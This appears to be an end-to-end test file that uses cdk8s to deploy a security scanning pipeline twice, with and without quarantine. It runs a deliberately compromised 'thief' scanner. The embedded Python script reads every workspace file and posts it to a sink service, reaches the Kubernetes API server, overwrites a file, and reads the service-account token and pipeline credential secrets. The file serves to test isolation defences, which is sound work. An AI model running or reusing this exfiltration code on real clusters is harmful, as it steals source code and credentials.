import { ApiObject, App, Chart, Size } from 'cdk8s';
import { PipelineRun, Producer, SecurityPipeline, Workspace } from 'tekwire';
import { GitClone, Summary } from 'tekwire/catalogue';

// A scanner that was taken over: it does its work, and tries every way out of its pod, in quarantine and without.
const NAMESPACE = 'tekwire-e2e-quarantine';
const THIEF = `
import glob, json, os, socket, urllib.request

def attempt(name, work):
    try:
        print(f"thief: {name}: {work()}", flush=True)
    except Exception as error:
        print(f"thief: {name}: no ({type(error).__name__})", flush=True)

files = [path for path in glob.glob("**", recursive=True) if os.path.isfile(path)]
loot = json.dumps({path: open(path, errors="replace").read() for path in files}).encode()

def post(url):
    return urllib.request.urlopen(urllib.request.Request(url, data=loot), timeout=5).status

def send(address):
    with socket.create_connection(address, timeout=5) as connection:
        connection.sendall(b"POST / HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(loot) + loot)
    return "sent"

def overwrite():
    open("deploy.env", "a").write("changed")
    return "changed"

attempt("sink by name", lambda: post(f"http://sink.{os.environ['SINK']}.svc.cluster.local:8080/{os.environ['RUN']}"))
attempt("sink by address", lambda: post(f"http://{os.environ['SINK_ADDRESS']}:8080/{os.environ['RUN']}"))
attempt("name lookup", lambda: bool(socket.getaddrinfo(f"sink.{os.environ['SINK']}.svc.cluster.local", 8080)))
attempt("API server", lambda: send((os.environ["KUBERNETES_SERVICE_HOST"], 443)))
attempt("sources", overwrite)
attempt("other files of the workspace", lambda: os.listdir("/workspace/source"))
attempt("token", lambda: len(open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()) > 0)
attempt("credentials", lambda: os.listdir("/tekton/creds-secrets"))
result = {"ruleId": "seen", "level": "note", "message": {"text": "seen"}, "locations": [{"physicalLocation": {"artifactLocation": {"uri": "main.go"}}}]}
run = {"tool": {"driver": {"name": os.environ["RUN"]}}, "results": [result]}
json.dump({"version": "2.1.0", "runs": [run]}, open(os.environ["REPORT"], "w"))
`;

const app = new App();
const chart = new Chart(app, 'quarantine', { namespace: NAMESPACE });
const image = 'python:3.13.9-slim-bookworm';
const source = new GitClone(chart, 'git-clone');
const consumers = [new Summary(chart, 'summary')];

new ApiObject(chart, 'git-credentials', {
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: 'git-credentials', annotations: { 'tekton.dev/git-0': 'https://git.example.org' } },
  type: 'kubernetes.io/basic-auth',
  stringData: { username: 'e2e', password: 'e2e' },
});
new ApiObject(chart, 'runner', {
  apiVersion: 'v1',
  kind: 'ServiceAccount',
  metadata: { name: 'runner' },
  secrets: [{ name: 'git-credentials' }],
});

for (const name of ['confined', 'open']) {
  const thief = new Producer(chart, `thief-${name}`, {
    scan: ({ sarif }) => ({
      image,
      command: ['python3', '-c', THIEF],
      env: { REPORT: sarif, RUN: name, SINK: `${NAMESPACE}-sink`, SINK_ADDRESS: process.env.E2E_SINK_ADDRESS ?? '192.0.2.1' },
    }),
  });
  const pipeline = new SecurityPipeline(chart, name, {
    source,
    producers: [thief],
    consumers,
    ...(name === 'open' && { quarantine: false }),
  });
  new PipelineRun(chart, `${name}-run`, {
    pipeline,
    params: { url: `git://git-server.${NAMESPACE}.svc:9418/webshop` },
    serviceAccount: 'runner',
    workspaces: { source: Workspace.claim({ size: Size.gibibytes(1), storageClass: process.env.E2E_STORAGE_CLASS }) },
  });
}
app.synth();
